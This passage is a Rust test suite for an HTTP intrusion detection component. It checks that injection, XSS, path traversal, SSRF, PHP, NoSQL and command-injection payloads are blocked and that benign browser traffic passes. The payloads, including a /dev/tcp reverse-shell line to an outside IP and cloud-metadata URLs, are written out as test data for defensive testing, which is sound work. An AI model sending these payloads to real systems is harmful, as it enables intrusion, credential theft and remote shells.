use super::*;
use crate::config::IdsConfig;

fn ids() -> Ids {
    Ids::new(&IdsConfig::default(), "X-API-Key", &[])
}

fn view<'a>(target: &'a str, headers: Vec<(&'a str, &'a [u8])>, body: &'a [u8]) -> RequestView<'a> {
    RequestView {
        method: "GET",
        target,
        headers,
        body,
    }
}

fn blocked(target: &str, headers: Vec<(&str, &[u8])>, body: &[u8]) -> Option<Family> {
    ids()
        .inspect(&view(target, headers, body))
        .unwrap()
        .block
        .map(|h| h.family)
}

#[test]
fn query_attacks_are_blocked() {
    assert_eq!(
        blocked("/api/tasks?q=1%27%20or%20%271%27%3D%271", vec![], b""),
        Some(Family::Sqli)
    );
    assert_eq!(
        blocked(
            "/api/tasks?status=%3Cscript%3Ealert(1)%3C/script%3E",
            vec![],
            b""
        ),
        Some(Family::Xss)
    );
    assert_eq!(
        blocked("/api/x?file=../../etc/passwd", vec![], b""),
        Some(Family::Lfi)
    );
    assert!(blocked("/api/x?host=a;cat%20/etc/passwd", vec![], b"").is_some());
    // a command run in a subshell or group after a separator
    for q in [
        "/api/x?d=/dev%26%26(sh)0%3E$d/tcp/51.15.142.164/777",
        "/api/x?host=x;(id)",
        "/api/x?host=a%7C(whoami)",
        "/api/x?host=a;%7B%20ls%20-la;%20%7D",
        // the blind probe: a time delay after a separator
        "/api/x?host=a;sleep%205",
        "/api/x?host=a%7C%20sleep%2010",
        "/api/x?host=a%26%26sleep%2010",
        "/api/x?host=a;timeout%205%20yes",
        "/api/x?host=a%60sleep%205%60",
        // a lone `&` still runs an English-word command with a shell-shaped
        // argument, or right against it
        "/api/x?host=a%20%26%20kill%20-9%201",
        "/api/x?host=a%20%26%20find%20/%20-name%20x",
        "/api/x?host=a%26time",
    ] {
        assert_eq!(blocked(q, vec![], b""), Some(Family::Rce), "{q}");
    }
}

#[test]
fn english_search_passes() {
    for q in [
        "/api/tasks?q=select+the+union+of+two+sets&status=done",
        "/api/tasks?q=drop+table+from+the+list",
        "/api/tasks?q=GNU+Bourne+Again+SHell&status=cancelled&limit=100",
        "/api/tasks?q=secure+shell+%28SSH%29+client%2C+for+secure+access+to+remote+machines",
        "/api/tasks?q=https%3A%2F%2Fwww.gnupg.org%2F&cursor=V_LSdy0gAoTUzymv",
        // `&` between English words that are also command names
        "/api/tasks?q=date%20%26%20time",
        "/api/tasks?q=time%20%26%20attendance",
        "/api/tasks?q=find%20%26%20replace",
        "/api/tasks?q=less%20%26%20more",
        "/api/tasks?q=head%20%26%20shoulders",
        "/api/tasks?q=Security%20scanner%20-%20HTTP%2C%20SSL%20%26%20more",
        "/api/tasks?q=sleep%205%20hours",
        // the same in search syntax: quoted, grouped, followed by more
        "/api/tasks?q=%22date%20%26%20time%22",
        "/api/tasks?q=%27date%20%26%20time%27",
        "/api/tasks?q=(first%20%26%20last)",
        "/api/tasks?q=date%20%26%20time;%20location",
    ] {
        assert_eq!(blocked(q, vec![], b""), None, "{q}");
    }
}

#[test]
fn free_text_is_not_inspected_but_other_fields_are() {
    let body = br#"{"title":"x' or 1=1 --","description":"<script>alert(1)</script> ../../etc/passwd; rm -rf /","input":{"sql":"union select 1"},"priority":"normal"}"#;
    let h: Vec<(&str, &[u8])> = vec![("content-type", b"application/json")];
    assert_eq!(blocked("/api/tasks", h.clone(), body), None);
    let bad = br#"{"title":"t","priority":"normal' or '1'='1"}"#;
    assert_eq!(blocked("/api/tasks", h.clone(), bad), Some(Family::Sqli));
    // the same body on a route without free text is inspected
    assert!(blocked("/api/agent", h, body).is_some());
}

#[test]
fn deep_json_is_refused() {
    let mut body = "[".repeat(10_000);
    body.push_str(&"]".repeat(10_000));
    let h: Vec<(&str, &[u8])> = vec![("content-type", b"application/json")];
    assert_eq!(
        ids().inspect(&view("/api/tasks", h, body.as_bytes())).err(),
        Some(IdsError::TooDeep)
    );
}

#[test]
fn credentials_headers_are_not_inspected() {
    let h: Vec<(&str, &[u8])> = vec![
        ("x-api-key", b"' or 1=1 --"),
        ("authorization", b"Bearer <script>"),
    ];
    assert_eq!(blocked("/api/tasks", h, b""), None);
    let h: Vec<(&str, &[u8])> = vec![("x-custom", b"' or 1=1 --")];
    assert_eq!(blocked("/api/tasks", h, b""), Some(Family::Sqli));
}

#[test]
fn modes_resolve_most_specific_first() {
    let cfg: IdsConfig = serde_json::from_value(serde_json::json!({
        "mode": "block",
        "families": {"xss": "detect"},
        "routes": {"/v1": {"mode": "detect", "families": {"sqli": "off"}, "exclude_fields": ["messages[].name", "query:debug"]}}
    })).unwrap();
    let ids = Ids::new(&cfg, "X-API-Key", &[]);
    let m = ids.modes_for("/api/tasks");
    assert_eq!(m[Family::Xss.idx()], IdsMode::Detect);
    assert_eq!(m[Family::Sqli.idx()], IdsMode::Block);
    let m = ids.modes_for("/v1/chat");
    assert_eq!(m[Family::Sqli.idx()], IdsMode::Off);
    assert_eq!(m[Family::Lfi.idx()], IdsMode::Detect);
    let v = ids
        .inspect(&view("/v1/chat?debug=../../etc/passwd", vec![], b""))
        .unwrap();
    assert!(v.block.is_none() && v.detected.is_empty());
    let v = ids
        .inspect(&view("/v1/chat?x=../../etc/passwd", vec![], b""))
        .unwrap();
    assert!(v.block.is_none());
    assert_eq!(v.detected[0].family, Family::Lfi);
    assert_eq!(v.detected[0].location, "query:x");
}

#[test]
fn gateway_free_text_paths() {
    let f = free_text_fields(&["messages[].content".to_string(), "prompt".to_string()]);
    assert!(f.covers(&[
        PathSeg::Key("messages".into()),
        PathSeg::Index,
        PathSeg::Key("content".into())
    ]));
    assert!(!f.covers(&[
        PathSeg::Key("messages".into()),
        PathSeg::Index,
        PathSeg::Key("role".into())
    ]));
    assert!(f.covers(&[PathSeg::Key("prompt".into())]));
}

/// An `Ids` with one gateway route `/v1/` and these free-text fields.
fn gateway_ids(free: &[&str]) -> Ids {
    let route: crate::config::GatewayRoute = serde_json::from_value(serde_json::json!({
        "prefix": "/v1/",
        "upstream": "http://127.0.0.1:9",
        "permission": "write:agent",
        "free_text": free,
    }))
    .unwrap();
    Ids::new(&IdsConfig::default(), "X-API-Key", &[route])
}

/// The family that blocks `body` as the inspection window of a longer
/// streamed body (`truncated`) on the gateway route `/v1/chat`.
fn window_blocked(ids: &Ids, body: &str, truncated: bool) -> Option<(Family, String)> {
    let h: Vec<(&str, &[u8])> = vec![("content-type", b"application/json")];
    ids.inspect_window_of(&view("/v1/chat", h, body.as_bytes()), None, truncated)
        .unwrap()
        .block
        .map(|h| (h.family, h.location))
}

#[test]
fn a_cut_json_window_is_walked_as_a_prefix() {
    let ids = gateway_ids(&["messages[].content", "prompt"]);
    let code = "x' UNION SELECT password FROM users-- ; cat /etc/passwd <script>alert(1)</script>";
    // free text cut by the window's end, or followed by more free text
    // that the window cuts: not inspected
    let cut_free = format!(r#"{{"model":"m","messages":[{{"role":"user","content":"{code} {code}"#);
    assert_eq!(window_blocked(&ids, &cut_free, true), None);
    let many = format!(
        r#"{{"model":"m","messages":[{{"role":"user","content":"{code}"}},{{"role":"user","content":"{code}"#
    );
    assert_eq!(window_blocked(&ids, &many, true), None);
    let cut_prompt = format!(r#"{{"prompt":"{code}\u00"#);
    assert_eq!(window_blocked(&ids, &cut_prompt, true), None);
    let cut_between = format!(r#"{{"prompt":"{code}","#);
    assert_eq!(window_blocked(&ids, &cut_between, true), None);
    // the same windows of a body that ended there are malformed: whole text
    assert!(window_blocked(&ids, &cut_free, false).is_some());
    // structure inside the window is inspected by its location, complete...
    let bad_role = format!(
        r#"{{"messages":[{{"role":"x' or 1=1 --","content":"{code}"}},{{"content":"{code}"#
    );
    assert_eq!(
        window_blocked(&ids, &bad_role, true),
        Some((Family::Sqli, "json:messages[].role".into()))
    );
    // ...or cut by the window's end (as far as it goes)
    let cut_model = format!(r#"{{"prompt":"{code}","model":"a' UNION SELECT password FROM us"#);
    assert_eq!(
        window_blocked(&ids, &cut_model, true),
        Some((Family::Sqli, "json:model".into()))
    );
    let cut_key = r#"{"prompt":"x","<script>alert(1)</scr"#;
    assert!(window_blocked(&ids, cut_key, true).is_some());
    // an escape split by the end does not hide what comes before it
    let cut_escape = r#"{"model":"../../etc/passwd\u00"#;
    assert_eq!(
        window_blocked(&ids, cut_escape, true).map(|b| b.0),
        Some(Family::Lfi)
    );
    // a fault inside the window is still a malformed body: inspected whole
    let broken = format!(r#"{{"prompt":"{code}"}} trailing"#);
    assert!(window_blocked(&ids, &broken, true).is_some());
}

#[test]
fn a_string_only_free_text_path_leaves_arrays_and_objects_structure() {
    let ids = gateway_ids(&["messages[].content:string", "messages[].content[].text"]);
    let code = "x' UNION SELECT password FROM users-- ; cat /etc/passwd";
    let text = format!(r#"{{"messages":[{{"role":"user","content":"{code}"}}]}}"#);
    assert_eq!(window_blocked(&ids, &text, false), None);
    let parts = format!(
        r#"{{"messages":[{{"role":"user","content":[{{"type":"text","text":"{code}"}}]}}]}}"#
    );
    assert_eq!(window_blocked(&ids, &parts, false), None);
    let url = r#"{"messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"http://169.254.169.254/latest/meta-data/"}}]}]}"#;
    assert_eq!(
        window_blocked(&ids, url, false).map(|b| b.1),
        Some("json:messages[].content[].image_url.url".into())
    );
    let part_type = r#"{"messages":[{"content":[{"type":"../../etc/passwd","text":"x"}]}]}"#;
    assert_eq!(
        window_blocked(&ids, part_type, false).map(|b| b.0),
        Some(Family::Lfi)
    );
    // a string-only field cut by the window is free text
    let cut = format!(r#"{{"messages":[{{"role":"user","content":"{code}"#);
    assert_eq!(window_blocked(&ids, &cut, true), None);
}

proptest::proptest! {
    #![proptest_config(proptest::prelude::ProptestConfig::with_cases(256))]
    /// Hostile bytes anywhere never panic the detector.
    #[test]
    fn arbitrary_input_never_panics(
        target in "/[ -~%\\\\\u{80}-\u{10ffff}]{0,80}",
        header in proptest::collection::vec(proptest::prelude::any::<u8>(), 0..120),
        body in proptest::collection::vec(proptest::prelude::any::<u8>(), 0..300),
        ctype in proptest::sample::select(vec!["application/json", "application/x-www-form-urlencoded", "application/xml", "multipart/form-data; boundary=x", "text/plain", ""]),
    ) {
        let ids = ids();
        let headers: Vec<(&str, &[u8])> = vec![("content-type", ctype.as_bytes()), ("x-thing", &header), ("cookie", &header)];
        let _ = ids.inspect(&RequestView { method: "POST", target: &target, headers, body: &body });
    }
}

#[test]
fn dynamic_segments_keep_only_parameters() {
    use super::dynamic_segments;
    assert_eq!(dynamic_segments("/api/auth/whoami", "/api/auth/whoami"), "");
    assert_eq!(
        dynamic_segments("/api/tasks/{id}", "/api/tasks/abc"),
        "/abc"
    );
    assert_eq!(
        dynamic_segments(
            "/api/tasks/{id}/result",
            "/api/tasks/..%2f..%2fetc%2fpasswd/result"
        ),
        "/..%2f..%2fetc%2fpasswd"
    );
    assert_eq!(dynamic_segments("/v1/{*rest}", "/v1/a/b;id"), "/a/b;id");
}

/// The clean-value memo is keyed by the value's kind and `+` decoding, not
/// the value alone: a string that is harmless as a header is still an
/// attack as a path, and one that is harmless undecoded is still an attack
/// once `+` means a blank; and a remembered value never masks an attack.
#[test]
fn the_clean_value_memo_never_masks_an_attack() {
    let ids = ids();
    let verdict = |target: &str, headers: Vec<(&str, &[u8])>| {
        ids.inspect(&view(target, headers, b""))
            .unwrap()
            .block
            .map(|h| h.family)
    };
    for _ in 0..2 {
        // remembered as a clean header value ...
        assert_eq!(
            verdict("/api/tasks", vec![("x-note", b"/x/etc/passwd")]),
            None
        );
        // ... still a sensitive file as the path
        assert_eq!(verdict("/x/etc/passwd", vec![]), Some(Family::Lfi));
    }
    let mut cold = Ids::new(&IdsConfig::default(), "X-API-Key", &[]);
    cold.set_memo(false);
    for target in [
        "/api/tasks?q=1'+or+'1'='1",
        "/api/tasks?q=abc",
        "/api/tasks?q=%3Cscript%3Ealert(1)%3C/script%3E",
    ] {
        for _ in 0..3 {
            let warm = ids
                .inspect(&view(target, vec![], b""))
                .unwrap()
                .block
                .map(|h| h.family);
            let fresh = cold
                .inspect(&view(target, vec![], b""))
                .unwrap()
                .block
                .map(|h| h.family);
            assert_eq!(warm, fresh, "{target}");
        }
    }
}

/// Regression: a payload after a complete JSON document (or in a broken
/// one) was never inspected: the walk stopped at the syntax error and
/// reported the body clean, and the gateway forwards bodies and WebSocket
/// messages as they are.
#[test]
fn text_after_a_json_document_is_inspected() {
    let body = br#"{"model":"x"} ' UNION SELECT password FROM users--"#;
    for ct in [&b"application/json"[..], &b"text/plain"[..]] {
        assert_eq!(
            blocked("/v1/x", vec![("content-type", ct)], body),
            Some(Family::Sqli),
            "{ct:?}"
        );
    }
    // a well-formed document with the same text as a free-text-looking
    // value is still judged by the walk alone
    let ok = br#"{"model":"x", "note": "union of sets"}"#;
    assert_eq!(
        blocked("/v1/x", vec![("content-type", b"application/json")], ok),
        None
    );
}

#[test]
fn obfuscated_ssrf_php_and_session_payloads_are_blocked() {
    use Family::*;
    let json: Vec<(&str, &[u8])> = vec![("content-type", b"application/json")];
    for (target, body, want) in [
        // IP literals in hex, octal, dotless and IPv6 notation, and after
        // a userinfo that hides the real host
        ("/api/x?u=http://0x7f.0x0.0x0.0x1/admin", "", Generic),
        ("/api/x?u=http://0177.0.0.01/", "", Generic),
        ("/api/x?u=http:/3232235777/", "", Generic),
        ("/api/x?u=gopher://[::ffff:7f00:1]:6379/_INFO", "", Generic),
        ("/api/x?u=http://a.example%20%26%40169.254.10.2/", "", Generic),
        // internal names, also in circled letters
        ("/api/x?u=redis.cache.svc.cluster.local:6379/", "", Generic),
        (
            "/api/x?u=http://%E2%93%9C%E2%93%94%E2%93%A3%E2%93%90%E2%93%93%E2%93%90%E2%93%A3%E2%93%90.%E2%93%96%E2%93%9E%E2%93%9E%E2%93%96%E2%93%9B%E2%93%94.%E2%93%98%E2%93%9D%E2%93%A3%E2%93%94%E2%93%A1%E2%93%9D%E2%93%90%E2%93%9B/",
            "",
            Generic,
        ),
        // PHP: XML polyglot, glued and indirect calls, comments before `(`
        ("/api/x?x=%3C%3Fxml%3Asystem(%27id%27)", "", Php),
        ("/api/x?x=XXshell_exec(%27id%27)", "", Php),
        ("/api/x?x=(passthru)(%27id%27)", "", Php),
        ("/api/x?x=%5Bexec%5D%5B0%5D(%27id%27)", "", Php),
        ("/api/x?x=%22pass%22.%22thru%22(%27id%27)", "", Php),
        ("/api/x?x=mail%2F*x*%2F(%27a%27)", "", Php),
        ("/api/x?x=system+%2F*a%0Ab*%2F+(%27id%27)", "", Php),
        ("/api/x?x=%24f%2F*a%0Ab*%2F(1)", "", Php),
        ("/api/x?x=%24f%5B%24g%5B0%5D%5D(1)", "", Php),
        ("/api/x?x=%24f%5B0%5D%2F%2Fc%0A%5B%27x%27%5D+%23d%0A(1)", "", Php),
        ("/api/x?x=%24f+%2F*c*%2F+%5B0%5D+%2F*d*%2F+(1)", "", Php),
        ("/api/x?x=%24%7B%22x%22%7D", "", Php),
        // JavaScript split by comments, and jQuery's `$` by index
        ("/api/x?a=window%2F*x*%2F.%2F*y*%2Flocation", "", Xss),
        ("/api/x?a=(top%2F*x*%2F)%5B%22cookie%22%5D", "", Xss),
        ("/api/x?a=this%5B%22%5Cx24%22%5D", "", Xss),
        // a globbed /bin path; a tool's command line ended by a newline;
        // decompressors reading logs
        ("/api/x?a=%2Fusr%2Fbin%2Fwh%3Fami", "", Rce),
        ("/api/x?code=chef-solo%0A", "", Rce),
        ("/api/x?code=nmap+-sS+10.0.0.1%0A", "", Rce),
        ("/api/x?cmd=bzcat+%2Fvar%2Flog%2Fauth.log.bz2", "", Rce),
        // a literal `+` where the payload expected a form decoder
        ("/api/x", r#"{"host":"example.com;c$_at+/et$_c/shadow"}"#, Rce),
        ("/api/x?host=a%3Bi%27d%27%2B-u", "", Rce),
        // a Java serialized object in base64 that starts one or two bytes
        // into the encoded data
        ("/api/x", r#"{"state":"QaztAAVzcmVzdCBvZiB0aGUgb2JqZWN0"}"#, Java),
        ("/api/x?state=AQKs7QAFc3Jlc3Qgb2YgdGhlIG9iamVjdA%3D%3D", "", Java),
        // Node.js: `process` by index, loops that never end; CSS reaching
        // for a script URL
        ("/api/x?a=process%5B%27mainModule%27%5D", "", Nodejs),
        ("/api/x?a=while(Object)%3B", "", Nodejs),
        ("/api/x?a=while(-Infinity)%7B%7D", "", Nodejs),
        ("/api/x?s=color%3Ared%3Bbackground%3Aurl(vbscript", "", Xss),
        // bash brace lists with an empty first word
        ("/api/x?a=%7B%2Cuname%2C-a%7D", "", Rce),
        ("/api/x?a=%7B%2C%2Fb%3Fn%2Fc%3Ft%2C%2Fetc%2Fhosts%7D", "", Rce),
        // session identifiers of other frameworks as parameters
        ("/api/x?koa.sess=eyJpZCI6MX0", "", Session),
        ("/api/x?rack.session=BAh7BkkiD3", "", Session),
        ("/api/x?session-id=abc123", "", Session),
        // Python's local_file: scheme; a data: URL as a JSON member name
        ("/api/x?x=local_file:///etc/passwd", "", Rfi),
        ("/api/x", r#"{"data:text/plain,foo":1}"#, Rfi),
    ] {
        let headers = if body.is_empty() { vec![] } else { json.clone() };
        assert_eq!(
            blocked(target, headers, body.as_bytes()),
            Some(want),
            "{target} {body}"
        );
    }
}

#[test]
fn values_next_to_the_evasion_rules_pass() {
    for q in [
        "/api/tasks?q=version+1.2.3+released",
        "/api/tasks?q=see+http%3A%2F%2Fexample.com%2Fdocs+(manual)",
        "/api/tasks?q=https%3A%2F%2Fmedium.com%2F%40someone",
        "/api/tasks?q=http%3A%2F%2Fexample.com%3A8080%2Fpath",
        "/api/tasks?q=ratio%3A5",
        "/api/tasks?q=C%3A%2F1.2%2Fsetup",
        "/api/tasks?q=mail+(the+program)",
        "/api/tasks?q=%22hello%22.%22world%22",
        "/api/tasks?q=localhost+setup",
        "/api/tasks?q=the+cluster.local+domain",
        "/api/tasks?q=session+id+handling",
        "/api/tasks?q=%E2%91%A0+first+step",
        "/api/tasks?q=xml+%3A+the+format",
        "/api/tasks?q=document+%2F*+cookie+jar",
        "/api/tasks?q=document+%2F*draft*%2F+cookie",
        "/api/tasks?q=int+x+%3D+1%3B+%2F*+%2Fusr%2Flib%2F*+is+fine+*%2F",
        "/api/tasks?q=Netstat+implementation+in+Go%0A",
        "/api/tasks?q=systemctl+daemon-reload%0A",
        "/api/tasks?q=python+bindings%0A",
        "/api/tasks?q=US%24+price+in+this+%22%24%22+column",
        "/api/tasks?q=c%2B%2B+and+g%2B%2B",
        "/api/tasks?q=if%2Bfoo%3D%3D",
        "/api/tasks?q=a%7B%2C5%7D+and+cp+file%7B%2C.bak%7D",
        "/api/tasks?q=mkdir+-p+src%2F%7Ba%2Cb%7D",
        "/api/tasks?q=while+(i+%3C+10)+and+process+%5Benv%5D",
        "/api/tasks?q=background%3A+url(javascript.png)",
        "/api/tasks?q=x+%3D+a+%2B+b%3B+y+%3D+c",
        "/api/tasks?q=the+sum%3B+(see+below)",
        "/api/tasks?q=fix+it%3B+(soon)+and+%7Bdone%7D",
    ] {
        assert_eq!(blocked(q, vec![], b""), None, "{q}");
    }
}

/// Attacks written only in a header grammar's characters: before the
/// grammars, `Accept`, `If-None-Match`, `Origin`, `Range`, every `Sec-*`
/// name … skipped them (200, forwarded by a gateway route). The
/// metadata URL `http://169.254.169.254/latest` no longer parses either
/// (`headers.rs`), but no header rule flags it, not even in `X-Custom`.
const GRAMMAR_CHARACTER_ATTACKS: &[&str] = &[
    "-1 UNION SELECT username,password FROM users--",
    "en;cat /etc/passwd",
    "x\" or \"1\"=\"1",
    "a=1;DROP TABLE users--",
    "1 OR 1=1--",
    "en WAITFOR DELAY 0:0:5",
];

#[test]
fn attacks_in_grammar_headers_are_blocked() {
    let short = ["1 or 1=1", "1 UNION SELECT 1"];
    for name in [
        "accept",
        "accept-language",
        "accept-encoding",
        "accept-charset",
        "content-type",
        "cache-control",
        "if-none-match",
        "if-match",
        "if-modified-since",
        "origin",
        "range",
        "pragma",
        "dnt",
        "date",
        "te",
        "expect",
        "priority",
        "sec-fetch-site",
        "sec-websocket-protocol",
        "sec-ch-ua",
        "sec-anything",
        "x-custom",
    ] {
        for a in GRAMMAR_CHARACTER_ATTACKS.iter().chain(&short) {
            assert!(
                blocked("/api/x", vec![(name, a.as_bytes())], b"").is_some(),
                "{name}: {a}"
            );
        }
    }
    // inside a grammar's quoted strings (a brand, an entity tag)
    for (name, v) in [
        ("sec-ch-ua", "\"1 UNION SELECT 1\";v=\"1\""),
        ("sec-ch-ua-platform", "\"<script>alert(1)</script>\""),
        ("if-none-match", "W/\"x' or '1'='1\""),
    ] {
        assert!(
            blocked("/api/x", vec![(name, v.as_bytes())], b"").is_some(),
            "{name}: {v}"
        );
    }
}

#[test]
fn browser_and_sdk_headers_pass() {
    let requests: &[&[(&str, &str)]] = &[
        // Chrome 118 navigation
        &[
            ("accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,image/apng,*/*;q=0.8,application/signed-exchange;v=b3;q=0.7"),
            ("accept-encoding", "gzip, deflate, br"),
            ("accept-language", "en-US,en;q=0.9,de;q=0.8"),
            ("cache-control", "max-age=0, no-cache"),
            ("sec-ch-ua", "\"Chromium\";v=\"118\", \"Google Chrome\";v=\"118\", \"Not=A?Brand\";v=\"99\""),
            ("sec-ch-ua-mobile", "?0"),
            ("sec-ch-ua-platform", "\"Windows\""),
            ("sec-fetch-dest", "document"),
            ("sec-fetch-mode", "navigate"),
            ("sec-fetch-site", "same-origin"),
            ("sec-fetch-user", "?1"),
            ("upgrade-insecure-requests", "1"),
            ("if-none-match", "W/\"5e15153d-120f\""),
            ("if-modified-since", "Wed, 21 Oct 2015 07:28:00 GMT"),
            ("user-agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/118.0.0.0 Safari/537.36"),
        ],
        // later Chrome GREASE brands
        &[
            ("sec-ch-ua", "\"Chromium\";v=\"116\", \"Not)A;Brand\";v=\"24\", \"Google Chrome\";v=\"116\""),
            ("sec-ch-ua-full-version-list", "\"Google Chrome\";v=\"117.0.5938.92\", \"Not;A=Brand\";v=\"8.0.0.0\", \"Chromium\";v=\"117.0.5938.92\""),
        ],
        &[("sec-ch-ua", "\"Not.A/Brand\";v=\"8\", \"Chromium\";v=\"114\", \"Google Chrome\";v=\"114\"")],
        &[("sec-ch-ua", "\"Not_A Brand\";v=\"8\", \"Chromium\";v=\"120\", \"Google Chrome\";v=\"120\"")],
        &[("sec-ch-ua", "\"Chromium\";v=\"126\", \"Not/A)Brand\";v=\"8\", \"Google Chrome\";v=\"126\"")],
        &[("sec-ch-ua", "\"Google Chrome\";v=\"133\", \"Not(A:Brand\";v=\"99\", \"Chromium\";v=\"133\"")],
        &[("sec-ch-ua", "\"Chromium\";v=\"134\", \"Not:A-Brand\";v=\"24\", \"Google Chrome\";v=\"134\"")],
        &[("sec-ch-ua", "\"Google Chrome\";v=\"131\", \"Chromium\";v=\"131\", \"Not_A Brand\";v=\"24\"")],
        &[("sec-ch-ua", "\"Not?A_Brand\";v=\"99\", \"Chromium\";v=\"130\"")],
        &[("sec-ch-ua", "\"Not-A.Brand\";v=\"99\", \"Chromium\";v=\"124\"")],
        // Firefox 128, with a range request
        &[
            ("accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"),
            ("accept-language", "de,en-US;q=0.7,en;q=0.3"),
            ("accept-encoding", "gzip, deflate, br, zstd"),
            ("range", "bytes=0-499, -500"),
            ("origin", "https://app.example.com"),
            ("dnt", "1"),
            ("sec-gpc", "1"),
            ("priority", "u=0, i"),
            ("te", "trailers"),
        ],
        // Safari 17
        &[
            ("accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"),
            ("accept-language", "en-GB,en;q=0.9"),
            ("if-none-match", "\"33a64df551425fcc55e4d42a148795d9f25f89d4\""),
        ],
        // curl, Python requests / httpx / aiohttp, OpenAI SDK
        &[("accept", "*/*"), ("user-agent", "curl/8.5.0")],
        &[
            ("accept", "*/*"),
            ("accept-encoding", "gzip, deflate"),
            ("connection", "keep-alive"),
            ("content-type", "application/json"),
        ],
        &[
            ("accept", "application/json"),
            ("content-type", "application/json"),
            ("x-stainless-lang", "python"),
            ("x-stainless-os", "Linux"),
            ("x-stainless-runtime", "CPython"),
            ("x-request-id", "req_6f1c2a9b3e4d"),
        ],
        &[("content-type", "multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW")],
        &[("content-type", "multipart/form-data; boundary=a1b2c3d4e5f6a7b8c9d0e1f2a3b4c5d6")],
        &[("content-type", "application/x-www-form-urlencoded; charset=utf-8")],
        // a WebSocket upgrade
        &[
            ("connection", "Upgrade"),
            ("upgrade", "websocket"),
            ("sec-websocket-key", "dGhlIHNhbXBsZSBub25jZQ=="),
            ("sec-websocket-version", "13"),
            ("sec-websocket-extensions", "permessage-deflate; client_max_window_bits"),
            ("sec-websocket-protocol", "graphql-transport-ws"),
        ],
    ];
    for headers in requests {
        let h: Vec<(&str, &[u8])> = headers.iter().map(|(n, v)| (*n, v.as_bytes())).collect();
        assert_eq!(blocked("/api/tasks", h, b""), None, "{headers:?}");
    }
}

#[test]
fn invisible_characters_do_not_hide_a_payload() {
    for (q, family) in [
        (
            "/api/x?q=%3C%E2%80%8Bscript%3Ealert(1)%3C/script%3E",
            Family::Xss,
        ),
        (
            "/api/x?q=1%20UNI%E2%80%8CON%20SEL%EF%BB%BFECT%20password%20FROM%20users",
            Family::Sqli,
        ),
        ("/api/x?q=1%27%20o%CC%81r%20%271%27%3D%271", Family::Sqli),
        (
            "/api/x?file=..%E2%81%A0/..%E2%80%8D/etc/passwd",
            Family::Lfi,
        ),
        (
            "/api/x?host=a;c%E2%80%8Bat%20/etc/pa%CC%80sswd",
            Family::Rce,
        ),
        ("/api/x?u=java%E2%80%8Bscript:alert(1)", Family::Xss),
        // the soft hyphen, a right-to-left override, a variation selector
        // and a tag character are default-ignorable too
        (
            "/api/x?q=%3Cscr%C2%ADipt%3Ealert(1)%3C/script%3E",
            Family::Xss,
        ),
        (
            "/api/x?q=1%20UNION%20SEL%E2%80%AEECT%20password%20FROM%20users",
            Family::Sqli,
        ),
        ("/api/x?u=javas%EF%B8%8Fcript:alert(1)", Family::Xss),
        ("/api/x?file=..%F3%A0%80%A1/../etc/passwd", Family::Lfi),
    ] {
        assert_eq!(blocked(q, vec![], b""), Some(family), "{q}");
    }
}

#[test]
fn overlong_utf8_in_every_length_is_decoded() {
    // two-, three- and four-byte overlong forms of ASCII, in the query, a
    // cookie and a JSON value (the path had its own normalisation)
    let xss3 = "%E0%80%BCscript%E0%80%BEalert(1)%E0%80%BC/script%E0%80%BE";
    let lfi3 = "..%e0%80%af..%e0%80%afetc%e0%80%afpasswd";
    let sqli3 = "%E0%80%A7%20or%20%E0%80%A71%E0%80%A7=%E0%80%A71";
    let lfi4 = "..%f0%80%80%af..%f0%80%80%afetc/passwd";
    for (value, family) in [
        (xss3, Family::Xss),
        (lfi3, Family::Lfi),
        (sqli3, Family::Sqli),
        (lfi4, Family::Lfi),
    ] {
        let q = format!("/api/x?a={value}");
        assert_eq!(blocked(&q, vec![], b""), Some(family), "{q}");
        let cookie = format!("session={value}");
        assert_eq!(
            blocked("/api/x", vec![("cookie", cookie.as_bytes())], b""),
            Some(family),
            "{cookie}"
        );
        let body = format!(r#"{{"name":"{value}"}}"#);
        assert_eq!(
            blocked(
                "/api/agent",
                vec![("content-type", b"application/json".as_slice())],
                body.as_bytes()
            ),
            Some(family),
            "{body}"
        );
    }
}

#[test]
fn metadata_endpoints_are_blocked_in_headers_names_and_keys() {
    let urls = [
        "http://169.254.169.254/latest/meta-data/",
        "http://metadata.google.internal/computeMetadata/v1/",
        "http://[::ffff:169.254.169.254]/",
        "http://0xa9fea9fe/",
        "http://instance-data/latest/",
    ];
    for url in urls {
        assert_eq!(
            blocked("/api/x", vec![("x-callback-url", url.as_bytes())], b""),
            Some(Family::Generic),
            "header {url}"
        );
        let q = format!("/api/x?{}=1", url.replace('/', "%2F"));
        assert_eq!(blocked(&q, vec![], b""), Some(Family::Generic), "{q}");
        let body = format!(r#"{{"{url}":1}}"#);
        assert_eq!(
            blocked(
                "/api/agent",
                vec![("content-type", b"application/json".as_slice())],
                body.as_bytes()
            ),
            Some(Family::Generic),
            "{body}"
        );
    }
    // a referer from a local development server is no metadata endpoint
    assert_eq!(
        blocked(
            "/api/x",
            vec![("referer", b"http://localhost:3000/tasks".as_slice())],
            b""
        ),
        None
    );
}

#[test]
fn nosql_operators_in_names_and_members_are_blocked() {
    // `user[$ne]=x`, its dotted form, and a JSON member that is an operator
    for q in [
        "/api/x?user%5B%24ne%5D=admin",
        "/api/x?password[$gt]=",
        "/api/x?user.$ne=1",
        "/api/x?q[%24where]=sleep(1)",
    ] {
        assert_eq!(blocked(q, vec![], b""), Some(Family::Sqli), "{q}");
    }
    let json = [("content-type", b"application/json".as_slice())];
    for body in [
        br#"{"username":"admin","password":{"$ne":null}}"#.as_slice(),
        br#"{"filter":{"age":{"$gt":""}}}"#.as_slice(),
    ] {
        assert_eq!(
            blocked("/api/login", json.to_vec(), body),
            Some(Family::Sqli),
            "{}",
            String::from_utf8_lossy(body)
        );
    }
    // a price, a shell variable or a template placeholder is not an operator
    for q in [
        "/api/tasks?q=costs+%2410+or+more",
        "/api/tasks?q=the+%24ne+operator+in+mongo",
        "/api/tasks?q=the+value+of+x.%24ref",
        "/api/tasks?q=a.%24network+settings",
    ] {
        assert_eq!(blocked(q, vec![], b""), None, "{q}");
    }
}

/// `pattern` without its anchors and word boundaries (which the sample
/// generator cannot produce; the samples are judged by the real rules).
fn without_assertions(pattern: &str) -> String {
    let mut out = String::new();
    let mut chars = pattern.chars().peekable();
    let mut in_class = false;
